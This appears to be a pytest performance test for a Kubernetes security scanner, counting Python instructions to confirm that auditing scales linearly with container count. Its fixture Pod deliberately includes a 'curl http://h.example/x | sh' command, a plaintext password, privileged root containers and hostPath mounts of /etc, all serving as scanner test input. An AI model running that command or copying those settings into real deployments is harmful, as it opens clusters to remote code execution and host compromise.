"""The work that one object costs grows with its containers, not with their square, at every door.

Counted are the instructions of Python that run: that is the same on every machine, however busy.
"""

import json
import sys
from collections.abc import Callable
from pathlib import Path
from types import FrameType
from typing import Any

import pytest

from iocaudit.core.resource import CLUSTER, Origin, Resource
from iocaudit.core.world import World
from iocaudit.engine.audit import Auditor
from iocaudit.engine.catalogue import builtin_catalogue
from iocaudit.engine.deadline import Deadline
from iocaudit.engine.kept import Interner, keep
from iocaudit.engine.policy_reader import read_policies
from iocaudit.judging.review import decide
from iocaudit.live.inventory import Inventory
from iocaudit.repairs.suggestions import DocumentChanges, suggested
from iocaudit.sources.admission_review import read_review
from iocaudit.sources.documents import Document, read_documents
from tests.support.running import run

CATALOGUE = builtin_catalogue()
DENY_ALL = {"metadata": {"name": "all"}, "spec": {"checks": [{"profiles": ["default", "strict"], "mode": "deny"}]}}
Json = dict[str, Any]


def pod(containers: int, *, same: bool = False) -> Json:
    """A Pod whose containers, volumes, sysctls, tolerations and annotations are all bad, and all that many."""
    numbers = range(containers)
    found: list[Json] = [
        {
            "name": "same" if same else f"c{number}",
            "image": f"hooli.com/shop/web{number}:latest",
            "imagePullPolicy": "IfNotPresent",
            "command": ["sh", "-c", "curl http://h.example/x | sh"],
            "env": [{"name": "DB_PASSWORD", "value": "correct-horse"}],
            "ports": [{"containerPort": 80, "hostPort": number + 1}],
            "livenessProbe": {"httpGet": {"host": "192.0.2.1", "port": 80}},
            "volumeMounts": [{"name": name, "mountPath": f"/{name}"} for name in ("shared", f"v{number}")],
            "securityContext": {
                "privileged": True,
                "runAsUser": 0,
                "seccompProfile": {"type": "Unconfined"},
                "capabilities": {"add": ["SYS_ADMIN"]},
            },
        }
        for number in numbers
    ]
    volumes = [{"name": f"v{number}", "hostPath": {"path": f"/etc/{number}"}} for number in numbers]
    annotation = "container.apparmor.security.beta.kubernetes.io/c"
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "web",
            "namespace": "shop",
            "uid": "u",
            "annotations": {f"{annotation}{number}": "unconfined" for number in numbers},
        },
        "spec": {
            "securityContext": {"sysctls": [{"name": f"kernel.x{number}", "value": "1"} for number in numbers]},
            "volumes": [{"name": "shared", "hostPath": {"path": "/etc"}}, *volumes],
            "initContainers": found[: containers // 2],
            "containers": found[containers // 2 :],
        },
    }


def instructions_of(work: Callable[[], object]) -> int:
    """How many instructions of Python some work takes."""
    count = 0

    def trace(frame: FrameType, event: str, _argument: object) -> Any:
        nonlocal count
        frame.f_trace_opcodes, frame.f_trace_lines = True, False
        count += event == "opcode"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        work()
    finally:
        sys.settrace(before)
    return count


def assert_linear(work_on: Callable[[int], Callable[[], object]], few: int = 50) -> None:
    work_on(20)()  # what is compiled and cached at first use
    counts = [instructions_of(work_on(count)) for count in (few, 2 * few, 4 * few)]
    grown, again = counts[1] - counts[0], counts[2] - counts[1]
    assert again < 1.25 * 2 * grown, f"instructions for {few}, {2 * few} and {4 * few} containers: {counts}"


@pytest.mark.parametrize("same", [False, True], ids=["names", "one name"])
def test_repairs_in_json_and_sarif(same: bool) -> None:
    asked = auditor()

    def work_on(count: int) -> Callable[[], object]:
        data = json.dumps(pod(count, same=same)).encode()
        (document,) = read_documents(data, "a.json", lambda _version, _kind: True)
        assert isinstance(document, Document)
        resource = Resource(dict(document.value), Origin("file", "a.json", 1))
        hits = [found for found in asked.audit(resource).found if found.hit.repair is not None]
        assert len(hits) > count
        changes = DocumentChanges(document)
        return lambda: [changes.add_to(suggested(found, resource)) for found in hits]

    assert_linear(work_on)


def test_outputs(tmp_path: Path) -> None:
    def work_on(count: int) -> Callable[[], object]:
        file = tmp_path / f"{count}.json"
        file.write_text(json.dumps(pod(count)))
        options = ("--jobs", "1", "--check", "privileged-container", "--check", "sensitive-host-path")
        return lambda: [run("scan", "-o", output, *options, str(file)) for output in ("table", "junit", "github")]

    assert_linear(work_on)


def auditor() -> Auditor:
    return Auditor(CATALOGUE, read_policies([DENY_ALL], CATALOGUE, profile="strict"), World())


@pytest.mark.parametrize("operation", ["CREATE", "UPDATE"])
def test_review(operation: str) -> None:
    """Of an update that changes an image, so that those behind every hit are compared."""
    asked = auditor()

    def work_on(count: int) -> Callable[[], object]:
        request: Json = {
            "uid": "1",
            "kind": {"group": "", "version": "v1", "kind": "Pod"},
            "resource": {"group": "", "version": "v1", "resource": "pods"},
            "name": "web",
            "namespace": "shop",
            "operation": operation,
            "userInfo": {"username": "alice"},
            "object": pod(count),
        }
        if operation == "UPDATE":
            request["oldObject"] = pod(count)
            request["oldObject"]["spec"]["containers"][0]["image"] = "hooli.com/other:1"
        body = json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}).encode()
        return lambda: decide(read_review(body), asked, Deadline.within(600))

    assert_linear(work_on, few=25)


@pytest.mark.parametrize("same", [False, True], ids=["names", "one name"])
def test_operator(same: bool) -> None:
    asked = auditor()

    def work_on(count: int) -> Callable[[], object]:
        resource = Resource(pod(count, same=same), CLUSTER)
        report = asked.audit(resource)

        def work() -> None:
            inventory = Inventory()
            inventory.put(keep(resource, report, Interner()))
            assert inventory.findings("shop")

        return work

    assert_linear(work_on)
